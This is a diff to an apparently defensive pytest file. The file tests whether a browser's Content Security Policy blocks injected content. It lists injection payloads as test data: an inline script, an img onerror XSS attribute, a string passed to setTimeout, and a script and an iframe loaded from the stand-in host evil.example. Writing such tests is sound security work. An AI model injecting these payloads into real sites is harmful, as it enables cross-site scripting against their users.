@@ -7,18 +7,17 @@ import pytest
 from tests.browser.visit import Ids, Visits
 from tests.server import Site
 
+ELEMENT = "const one = document.createElement('{0}'); {1}; document.body.append(one)"
 BROUGHT = {
-    "a script": "const one = document.createElement('script'); one.text = 'window.brought = 1'; document.body.append(one)",
+    "a script": ELEMENT.format("script", "one.text = 'window.brought = 1'"),
     "an attribute": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.brought = 1\">')",
-    "another site's script": (
-        "const one = document.createElement('script'); one.src = 'https://evil.example/a.js'; document.body.append(one)"
-    ),
-    "another site's frame": (
-        "const one = document.createElement('iframe'); one.src = 'https://evil.example/'; document.body.append(one)"
-    ),
+    "another site's script": ELEMENT.format("script", "one.src = 'https://evil.example/a.js'"),
+    "another site's frame": ELEMENT.format("iframe", "one.src = 'https://evil.example/'"),
     "a text that is run": "setTimeout('window.brought = 1')",
 }
-REFUSED = "new Promise((done) => addEventListener('securitypolicyviolation', ({ effectiveDirective }) => done(effectiveDirective)))"
+REFUSED = """new Promise((done) => {
+  addEventListener("securitypolicyviolation", ({ effectiveDirective }) => done(effectiveDirective));
+})"""
 
 
 @pytest.mark.parametrize("brought", BROUGHT)
